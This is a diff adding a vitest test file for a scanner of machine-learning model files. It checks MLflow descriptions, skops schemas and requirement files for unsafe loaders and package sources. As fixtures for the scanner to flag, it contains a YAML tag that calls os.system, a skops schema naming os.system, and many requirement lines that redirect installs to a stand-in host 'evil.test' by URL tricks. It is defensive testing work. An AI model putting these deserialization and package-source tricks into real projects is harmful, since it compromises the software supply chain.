@@ -1,0 +1,189 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { zipByHand } from '../../../testing/zip-by-hand.ts';
+import { scanModel } from '../scan.ts';
+
+let folder = '';
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'loaders-'));
+});
+afterAll(() => rm(folder, { recursive: true }));
+
+/** What is found in a file of this name. */
+async function found(path: string, content: string | Uint8Array) {
+  const location = join(folder, 'file');
+  await writeFile(location, content);
+  const files = [{ path, location, size: content.length }];
+  const signal = new AbortController().signal;
+  return (await scanModel(files, { signal, temporaryFolder: folder, now: new Date() })).findings;
+}
+const whats = async (path: string, content: string | Uint8Array) =>
+  (await found(path, content)).map(({ rule, what }) => `${rule}: ${what}`);
+
+const mlmodel = (flavors: object) => JSON.stringify({ flavors, mlflow_version: '3.17.2' });
+
+describe('descriptions of MLflow', () => {
+  const env = { conda: 'conda.yaml', virtualenv: 'python_env.yaml' };
+  test.each([
+    [
+      'scikit-learn',
+      {
+        python_function: {
+          env,
+          loader_module: 'mlflow.sklearn',
+          model_path: 'model.pkl',
+          predict_fn: 'predict',
+        },
+        sklearn: { code: null, pickled_model: 'model.pkl', serialization_format: 'cloudpickle' },
+      },
+    ],
+    [
+      'skops with types that are known',
+      { sklearn: { pickled_model: 'model.skops', skops_trusted_types: ['xgboost.sklearn.XGBClassifier'] } },
+    ],
+    [
+      'XGBoost',
+      {
+        python_function: { data: 'model.ubj', env, loader_module: 'mlflow.xgboost' },
+        xgboost: { code: null, data: 'model.ubj', model_class: 'xgboost.sklearn.XGBClassifier' },
+      },
+    ],
+    [
+      'LightGBM',
+      {
+        python_function: { data: 'model.lgb', env, loader_module: 'mlflow.lightgbm' },
+        lightgbm: { code: null, data: 'model.lgb', model_class: 'lightgbm.basic.Booster' },
+      },
+    ],
+    [
+      'a model of Python with artifacts from elsewhere',
+      {
+        python_function: {
+          artifacts: { weights: { path: 'artifacts/weights.npz', uri: 's3://bucket/weights.npz' } },
+          loader_module: 'mlflow.pyfunc.model',
+          python_model: 'python_model.pkl',
+        },
+      },
+    ],
+  ])('pass for %s', async (_what, flavors) => {
+    expect(await whats('model/MLmodel', mlmodel(flavors))).toEqual([]);
+  });
+
+  test('are found in archives too, and whatever their letters', async () => {
+    const bytes = Buffer.from('flavors: {python_function: {loader_module: evil}}\n');
+    const [one] = await found('model.zip', zipByHand([{ name: 'm/mlmodel', bytes, method: 8 }]));
+    expect(one).toMatchObject({ rule: 'named-code', members: ['m/mlmodel'] });
+    expect(one!.what).toBe('`evil._load_pyfunc` is imported and called.');
+  });
+
+  test('are told once where they say it twice', async () => {
+    const flavors = { python_function: { code: 'code' }, sklearn: { code: 'code' } };
+    expect(await found('MLmodel', mlmodel(flavors))).toHaveLength(1);
+  });
+
+  test.each([
+    ['a list', '- 1\n'],
+    ['nothing', '\n'],
+    ['no flavors', 'run_id: x\n'],
+  ])('say nothing where they are %s', async (_what, text) => {
+    expect(await found('MLmodel', text)).toEqual([]);
+  });
+
+  test.each([
+    ['aliases without end', `a: &a [x]\n${'b: &b [*a, *a]\n'.repeat(2)}`],
+    ['tags of Python', 'flavors: !!python/object/apply:os.system [echo]\n'],
+    ['a text that is cut off', 'flavors: {'],
+  ])('are looked through, or refused, with %s', async (_what, text) => {
+    for (const { rule } of await found('MLmodel', text)) expect(rule).toBe('unreadable');
+  });
+
+  test('of more than a megabyte are refused', async () => {
+    expect(await found('MLmodel', `a: ${'x'.repeat(1_100_000)}`)).toMatchObject([
+      { rule: 'cannot-look-into' },
+    ]);
+  });
+
+  test.each([
+    ['mlflow.pytorch.pickle_module', []],
+    ['tf_keras\n', []],
+    ['dill', ['named-code: `dill.load` is imported, to load the model.']],
+  ])('the module %j', async (text, expected) => {
+    expect(await whats('data/pickle_module_info.txt', text)).toEqual(expected);
+  });
+});
+
+describe('settings', () => {
+  test.each([
+    ['model-settings.json', { name: 'm', implementation: 'mlserver_sklearn.SKLearnModel' }],
+    ['model-settings.json', { implementation: 'mlserver.codecs.X', parameters: { uri: './model.joblib' } }],
+    ['modules.json', [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]],
+    ['2_Dense/config.json', { activation_function: 'torch.nn.modules.activation.Tanh' }],
+    ['config.json', { activation_function: 'gelu_new', model_type: 'gpt2' }],
+    ['config.json', [1, 'a.b.c', null, true]],
+    [
+      'adapter_config.json',
+      { auto_mapping: { parent_library: 'transformers.models.bert' }, peft_type: 'LORA' },
+    ],
+    ['elsewhere.json', { implementation: 'team.Runtime' }],
+  ])('pass as their libraries write them: %s', async (name, content) => {
+    expect(await whats(name, JSON.stringify(content))).toEqual([]);
+  });
+
+  test('of what skops knows, of what it does not, and of what runs commands', async () => {
+    const node = (module: string, name: string) => ({
+      __module__: module,
+      __class__: name,
+      __loader__: 'ObjectNode',
+    });
+    const schema = {
+      ...node('sklearn.pipeline', 'Pipeline'),
+      content: [node('team.steps', 'Encoder'), node('os', 'system'), node('numpy', 'anything')],
+    };
+    expect(await whats('schema.json', JSON.stringify(schema))).toEqual([
+      'named-code: `os.system` is loaded, which runs commands of the machine.',
+      'skops-type: `team.steps.Encoder` is loaded, which is not among what the scan knows to be harmless.',
+    ]);
+  });
+});
+
+describe('requirements', () => {
+  test.each([
+    [
+      'requirements.txt',
+      'mlflow==3.17.2\nscikit-learn==1.9.1 ; python_version >= "3.11"\n# git+https://a/b\n',
+    ],
+    ['requirements.txt', '--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.9.0\n'],
+    [
+      'conda.yaml',
+      'channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24\n- pip:\n  - mlflow==3.17.2\nname: e\n',
+    ],
+    [
+      'python_env.yaml',
+      'python: 3.11.7\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n',
+    ],
+  ])('pass as MLflow writes them: %s', async (name, text) => {
+    expect(await whats(name, text)).toEqual([]);
+  });
+
+  test.each([
+    ['requirements.txt', '--index-url http://evil.test/simple'],
+    ['requirements-gpu.txt', '-fhttp://evil.test'],
+    ['requirements.txt', '--index-url=http://evil.test/simple'],
+    ['requirements.txt', 'evil @ git+https://evil.test/evil'],
+    ['requirements.txt', 'evil[all]@https://evil.test/evil.whl'],
+    ['requirements.txt', '--extra-ind http://evil.test'],
+    ['requirements.txt', '-r https://evil.test/requirements.txt'],
+    ['requirements.txt', '-e ./code'],
+    ['requirements.txt', './code/evil'],
+    ['conda.yaml', 'dependencies:\n- pip:\n  - "git+https://evil.test/evil"\n'],
+    ['conda.yaml', 'channels:\n- https://evil.test/channel\n'],
+    ['requirements.txt', '--index-\\\nurl http://evil.test'],
+    ['requirements.txt', '-i http://evil.test/?https://pypi.org/simple'],
+    ['requirements.txt', '-i https://pypi.org/simple.evil.test'],
+    ['requirements.txt', '-i https://pypi.org/simple@evil.test'],
+  ])('warn of %s with %j', async (name, text) => {
+    expect(await found(name, text)).toMatchObject([{ rule: 'package-source', level: 'warning' }]);
+  });
+});
